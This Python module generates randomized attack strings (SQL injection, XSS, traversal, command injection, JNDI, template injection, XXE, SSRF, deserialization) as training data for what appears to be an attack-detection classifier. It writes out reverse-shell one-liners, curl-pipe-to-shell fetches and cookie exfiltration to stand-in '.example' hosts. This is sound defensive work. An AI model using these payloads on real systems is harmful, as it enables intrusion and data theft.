"""Attack values made by rule, for kinds that the lists hardly know: templates, JNDI, NoSQL, XXE, wrappers, blind commands.

Public techniques in their usual shapes with random names, numbers, quotes and spacing, so that a network learns the
shape and not one list's favourite words. They serve training only and are in no test figure. Text only: nothing here
is ever run.
"""

from __future__ import annotations

from collections.abc import Callable

import numpy as np

from soc_tui.analysis.corpora.query import COMMAND, OTHER, SQLI, TRAVERSAL, XSS

Rng = np.random.Generator


def _of(rng: Rng, *items: str) -> str:
    return items[int(rng.integers(len(items)))]


def _name(rng: Rng) -> str:
    return "".join(chr(97 + int(c)) for c in rng.integers(0, 26, int(rng.integers(1, 9))))


def _number(rng: Rng) -> str:
    return str(int(rng.integers(10 ** int(rng.integers(1, 6)))))


def _gap(rng: Rng) -> str:
    return _of(rng, " ", " ", " ", "/**/", "\t", "\n", "  ", "+", "/*!*/", "\x0b", "%0a")


def _sqli(rng: Rng) -> str:
    g, n, m, word = _gap(rng), _number(rng), _number(rng), _name(rng)
    quote = _of(rng, "'", '"', "", "')", '")', "'))", "`", ")", "\\'")
    start = _of(rng, n, word, "", "-" + n, "admin", "%")
    op = _of(rng, "=", "<>", "!=", "<", ">", " like ", " rlike ", " regexp ", " between 0 and ", "^", "|", "&", " div ", " is not ", "<=>", " sounds like ")
    value = _of(rng, n, f"'{word}'", "@@version", "@" + word, "null", "true", "user()", "database()", f"char({n})", f"0x{n}", "pi()", f"'{word}'='{word}", f"binary {n}")
    call = _of(rng, "sleep({n})", "benchmark({n}000,md5({m}))", "pg_sleep({n})", "load_file('/etc/passwd')", "extractvalue(1,concat(0x7e,version()))",
               "updatexml(1,concat(0x7e,user()),1)", "dbms_pipe.receive_message('a',{n})", "ascii(substr(user(),{n},1))", "current_user", "if(1=1,sleep({n}),0)",
               "case when {n}={m} then 1 else 0 end", "(select {m} from(select sleep({n}))a)", "utl_inaddr.get_host_address('x')", "@@datadir", "length(database())", "exp(~(select*from(select user())a))").replace("{n}", n).replace("{m}", m)
    columns = ",".join(_of(rng, "null", str(i), "@@version", "password", "user()", "char(97)", "group_concat(table_name)") for i in range(1, 1 + int(rng.integers(1, 9))))
    table = _of(rng, "users", "information_schema.tables", "mysql.user", "sys.objects", "dual", word, "pg_shadow", "all_tables", "sqlite_master", "admin")
    tail = _of(rng, "--", "-- -", "#", "/*", "", ";--", "--+", ";%00", f" and '{word}'='{word}", " limit 1,1", " or '1")
    body = _of(
        rng, f"or{g}{n}{op}{value}", f"and{g}{value}{op}{n}", f"||{g}{n}{op}{n}", f"&&{g}{call}", f"or{g}{call}", f"and{g}{call}",
        f"union{g}select{g}{columns}", f"union{g}all{g}select{g}{columns}{g}from{g}{table}", f"union{g}(select{g}{columns}{g}from{g}{table})",
        f";{g}drop{g}table{g}{table}", f";{g}exec{g}xp_cmdshell('dir')", f";{g}waitfor{g}delay{g}'0:0:{n}'", f"order{g}by{g}{n}", f"group{g}by{g}{columns}{g}having{g}1=1",
        f"procedure{g}analyse()", f"into{g}outfile{g}'/tmp/{word}'", f"{op}{value}", f"+(select{g}{columns}{g}from{g}{table})", f"and{g}(select{g}count(*){g}from{g}{table})>{n}",
        f"and{g}exists(select{g}*{g}from{g}{table})", f";{g}insert{g}into{g}{table}{g}values({n},'{word}')", f";{g}update{g}{table}{g}set{g}password='{word}'", f"{op}{quote}{value}", f"or{g}not{g}{value}",
    )  # fmt: skip
    return _of(rng, f"{start}{quote}{g}{body}{tail}", f"{start}{quote}{g}{body}{tail}", f"({body.split(g, 1)[-1]}){tail}" if "select" in body else f"{start}{quote}{g}{body}{tail}", f"({call})", f"{start}{quote}{g}{body}")


_HANDLERS = ("onerror", "onload", "onmouseover", "onfocus", "onclick", "onpointerenter", "ontoggle", "onbegin", "onanimationend", "onbeforeinput", "onpageshow", "onwheel", "onresize", "oncut")


def _script(rng: Rng) -> str:
    n, word = _number(rng), _name(rng)
    function = _of(rng, "alert", "confirm", "prompt", "eval", "fetch", "print", "setTimeout", "Function", "import", "top.alert", "window['alert']", "self[`alert`]", "console.log", "document.write", "location.replace")
    inner = _of(rng, n, f"'{word}'", "document.cookie", "document.domain", "String.fromCharCode(88,83,83)", "origin", f"/{word}/.source", "atob('YWxlcnQoMSk=')", "'xss'", "location.hash", f"'//{word}.example/'+document.cookie", "localStorage")
    return _of(rng, f"{function}({inner})", f"{function}`{inner}`", f"({function})({inner})", f"{function}.call(null,{inner})", f"{function}.apply(this,[{inner}])", f"[{inner}].map({function})", f"[{n}].find({function})", f"{function}&lpar;{inner}&rpar;", f"location='javascript:{function}({inner})'",
               f"document.location='//{word}.example/?'+{inner}", f"new Image().src='//{word}.example/'+{inner}", f"throw onerror={function},{n}", f"Reflect.apply({function},null,[{inner}])", f"var {word}={function};{word}({inner})", f"{function}?.({inner})", f"constructor.constructor('{function}({n})')()")  # fmt: skip


def _xss(rng: Rng) -> str:
    js, word, n, on = _script(rng), _name(rng), _number(rng), _HANDLERS[int(rng.integers(len(_HANDLERS)))]
    tag = _of(rng, "img", "svg", "body", "iframe", "video", "details", "input", "a", "div", "marquee", "object", word, "math", "style", "audio", "button", "form", "select", "textarea", "b", "p")
    slash, quote = _of(rng, " ", "/", "\n", "\t", " x ", f" {word}={n} "), _of(rng, "", "'", '"')
    out = _of(rng, "", '">', "'>", "</script>", "</textarea>", "--></style>", "</title>", "]]>", '"/>')
    return _of(
        rng, f"{out}<script>{js}</script>", f"{out}<script src=//{word}.example/{word}.js></script>", f"{out}<{tag}{slash}{on}={quote}{js}{quote}>", f"{out}<{tag}{slash}src={word} {on}={quote}{js}{quote}>",
        f"{out}<{tag}{slash}{on}={quote}{js}{quote}//", f"javascript:{js}", f"{out}<a href={quote}javascript:{js}{quote}>{word}</a>", f"{out}<iframe srcdoc='<script>{js}</script>'>", f"data:text/html,<script>{js}</script>", f"{quote}{slash}{on}={quote}{js}",
        f"';{js};//", f'";{js};//', f"'-{js}-'", f'"+{js}+"', f"\\';{js}//", f"${{{js}}}", f"{js}", f"{js}//", f"<style>@import'//{word}.example/{word}.css';</style>", f"{out}<meta http-equiv=refresh content='0;url=javascript:{js}'>", f"<svg><animate {on}={js} attributeName=x>", f"{out}<embed src=javascript:{js}>",
        f"<img src=x:{js} {on}=eval(src)>", f"{out}<base href=javascript:/{word}/>", f"vbscript:msgbox({n})", f"<x style=background:url(javascript:{js})>",
    )  # fmt: skip


def _traversal(rng: Rng) -> str:
    up = _of(rng, "../", "..\\", "....//", "..;/", "%2e%2e/", "..%2f", "..%5c", "..%c0%af", "%2e%2e%2f", "..//", "/..", "..%252f", ".%2e/", "..\\/", "%c0%ae%c0%ae/")
    target = _of(rng, "etc/passwd", "etc/shadow", "windows/win.ini", "boot.ini", "proc/self/environ", "var/log/apache2/access.log", "WEB-INF/web.xml", ".env", "wp-config.php", "etc/hosts", "windows/system32/drivers/etc/hosts", "root/.ssh/id_rsa", "app/config/database.yml", "web.config", "proc/version", "etc/nginx/nginx.conf", "var/www/html/config.php", "inetpub/wwwroot/web.config", ".git/config", "home/" + _name(rng) + "/.bash_history")
    end = _of(rng, "", "", "", "%00", "%00.jpg", "\x00.html", "?", ".html", "#", "/.", "::$DATA")
    return _of(rng, f"{up * int(rng.integers(2, 10))}{target}{end}", f"/{_name(rng)}/{up * int(rng.integers(2, 8))}{target}{end}", f"file:///{target}", f"/{target}{end}" if target.startswith(("etc", "proc", "root", "var/log")) else f"c:/{target}", f"php://filter/convert.base64-encode/resource={_of(rng, 'index.php', '../config.php', target)}",
               f"php://input", f"{_name(rng)}.php/{up * 4}{target}", f"zip://{_name(rng)}.jpg%23shell.php", f"expect://id", f"data://text/plain;base64,PD9waHA=", f"phar://{_name(rng)}.phar", f"C:\\{target.replace('/', chr(92))}", f"\\\\{_name(rng)}.example\\share\\{target}", f"jar:http://{_name(rng)}.example!/{_name(rng)}")  # fmt: skip


def _command(rng: Rng) -> str:
    n, word = _number(rng), _name(rng)
    run = _of(rng, "id", "whoami", "cat /etc/passwd", "ls -la", f"sleep {n}", f"ping -c {n} 127.0.0.1", "uname -a", f"wget http://{word}.example/{word}.sh", f"curl http://{word}.example|sh", "nc -e /bin/sh 192.0.2.1 4444", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1", "dir c:\\", "type c:\\boot.ini", "net user", "ipconfig /all", "netstat -an", "powershell -enc SQBFAFgA", f"nslookup {word}.example", f"echo {word}", "cat${IFS}/etc/passwd", "/bin/ca?t /et?/pass??", "cat /e'tc'/pa\"ssw\"d", "{cat,/etc/passwd}", "c\\at /etc/passwd", f"rm -rf /tmp/{word}", f"chmod 777 /tmp/{word}", "env", "set", "ps aux", "reboot", "busybox wget", "tftp -g", "certutil -urlcache", f"expr {n} + 1", f"touch /tmp/{word}", "phpinfo()", "w", "ls /", "pwd")  # fmt: skip
    code = _of(rng, f"system('{run}')", f"passthru('{run}')", f"shell_exec('{run}')", "phpinfo()", f"exec('{run}')", f"eval(base64_decode('{word}'))", f"__import__('os').system('{run}')", f"os.popen('{run}').read()", f"Runtime.getRuntime().exec('{run}')", f"require('child_process').exec('{run}')", f"assert($_GET['{word}'])", f"file_put_contents('{word}.php','{word}')", f"print(md5({n}))", f"'{run}'.execute().text", f"new ProcessBuilder('{run}').start()", f"call_user_func('{word}')", f"preg_replace('/{word}/e','{run}','')")  # fmt: skip
    start = _of(rng, "", n, word, "127.0.0.1", '"', "'", "a", "8.8.8.8")
    return _of(rng, f"{start};{run}", f"{start}; {run};", f"{start}|{run}", f"{start} | {run}", f"{start}&&{run}", f"{start} && {run}", f"{start}||{run}", f"{start}&{run}&", f"{start}`{run}`", f"{start}$({run})", f"{start}\n{run}", f"{start}%0a{run}", f"{start};{run} #", f"() {{ :;}}; {run}", f"<?php {code}; ?>", f"<?={code}?>", f"{code};", f"${{{code}}}", f"{start};{code};//", f"{{${{{code}}}}}", f"${{@print({code})}}", f"/bin/{_of(rng, 'sh', 'bash')} -c '{run}'", f"cmd.exe /c {run}", f"{run}" if " " in run and "/" in run else f";{run}", f"<!--#exec cmd=\"{run}\"-->", f"<%={code}%>", f"{start}';{run};'", f"${{IFS}};{run}")  # fmt: skip


def _other(rng: Rng) -> str:
    n, m, word = _number(rng), _number(rng), _name(rng)
    host = _of(rng, f"{word}.example", "192.0.2.7:1389", "127.0.0.1", f"{word}.{word}.example:1389/{word}")
    scheme = _of(rng, "ldap", "rmi", "dns", "ldaps", "iiop", "${lower:l}dap", "${::-l}${::-d}ap", "ld${upper:a}p")
    jndi = _of(rng, "jndi", "${lower:j}ndi", "${::-j}${::-n}di", "jn${env:x:-d}i", "${lower:jn}di", "j${k8s:k5:-ND}i")
    sum_ = _of(rng, f"{n}*{m}", f"{n}+{m}", "7*7", "7*'7'", "config", "self.__class__", "request.application.__globals__", "''.__class__.__mro__[1].__subclasses__()", "T(java.lang.Runtime).getRuntime().exec('id')", "settings.SECRET_KEY", "dump(app)", "_self.env", "constructor.constructor('return this')()", "cycler.__init__.__globals__.os.popen('id').read()", f"{word}|attr('{word}')", "smarty.version", "''.constructor.prototype")  # fmt: skip
    open_, close = (("{{", "}}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("{%", "%}"), ("{", "}"), ("@(", ")"), ("*{", "}"), ("[[", "]]"), ("%{", "}"), ("${{", "}}"), ("{{=", "}}"), ("#set($x=", ")"))[int(rng.integers(13))]
    op = _of(rng, "$gt", "$ne", "$regex", "$where", "$exists", "$nin", "$or", "$lt", "$in")
    entity = _of(rng, f"file:///etc/passwd", f"http://{host}/", "php://filter/read=convert.base64-encode/resource=index.php", "expect://id")
    return _of(
        rng, f"${{{jndi}:{scheme}://{host}/{word}}}", f"${{{jndi}:{scheme}://{host}}}", f"${{{jndi}:{scheme}://${{env:USER}}.{host}/a}}", f"{open_}{sum_}{close}", f"{word}{open_}{sum_}{close}", f"{open_} {sum_} {close}",
        f'{{"{word}":{{"{op}":""}}}}', f'{{"{op}":{n}}}', f"'; return '{word}'=='{word}' //", f"' || '1'=='1", f'{{"$where":"sleep({n})"}}', f"', $or: [ {{}}, {{ '{word}':'{word}", f"true, $where: '1 == 1'", f"db.{word}.find({{$where:function(){{return 1}}}})",
        f"*)(uid=*))(|(uid=*", f"*)({word}=*)", f"admin*)((|userpassword=*)", f"*))(&({word}=*", f"(|(cn={word})(cn=*))", f"{word})(|(password=*))", f"*)(objectClass=*",
        f'<?xml version="1.0"?><!DOCTYPE {word} [<!ENTITY {word} SYSTEM "{entity}">]><{word}>&{word};</{word}>', f'<!ENTITY % {word} SYSTEM "{entity}">', f"<xi:include href='{entity}' parse='text'/>",
        f'<!--#include virtual="/etc/passwd" -->', f'<!--#echo var="{word}" -->', f"%0d%0aSet-Cookie:{word}={n}", f"{word}\r\nLocation: http://{host}/", f"%0d%0a%0d%0a<html>{word}", f"%E5%98%8A%E5%98%8DSet-Cookie:{word}", f"\r\nX-{word}: {n}",
        f"http://169.254.169.254/latest/meta-data/{word}", "http://metadata.google.internal/computeMetadata/v1/", f"gopher://127.0.0.1:{n}/_{word}", f"dict://127.0.0.1:{n}/info", f"__proto__[{word}]={n}", f'{{"__proto__":{{"{word}":true}}}}', f"constructor.prototype.{word}",
        f'O:{len(word)}:"{word}":1:{{s:4:"{word}";s:1:"a";}}', "rO0ABXNyABFqYXZhLnV0aWwuSGFzaA==", f"!!python/object/apply:os.system ['id']", f"class.module.classLoader.resources.context.parent.pipeline.first.pattern={word}", f"%{{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}}", f"(#a=@java.lang.Runtime@getRuntime().exec('id'))",
        f"' or count(/*)={n} or '{word}'='", f"'] | //* | //*['", f"' and substring(//user[{n}]/{word},1,1)='a", f"{word}' or name()='{word}",
    )  # fmt: skip


_MAKERS: tuple[tuple[Callable[[Rng], str], int, int], ...] = (
    (_sqli, SQLI, 4), (_xss, XSS, 4), (_traversal, TRAVERSAL, 2), (_command, COMMAND, 3), (_other, OTHER, 3),
)  # fmt: skip


def made(count: int, rng: Rng) -> dict[str, int]:
    """Distinct attack values with their classes."""
    makers = [(maker, bits) for maker, bits, share in _MAKERS for _ in range(share)]
    values: dict[str, int] = {}
    for _ in range(count * 3):
        maker, bits = makers[int(rng.integers(len(makers)))]
        value = maker(rng)
        if len(value) > 3:
            values[value] = bits
        if len(values) >= count:
            break
    return values
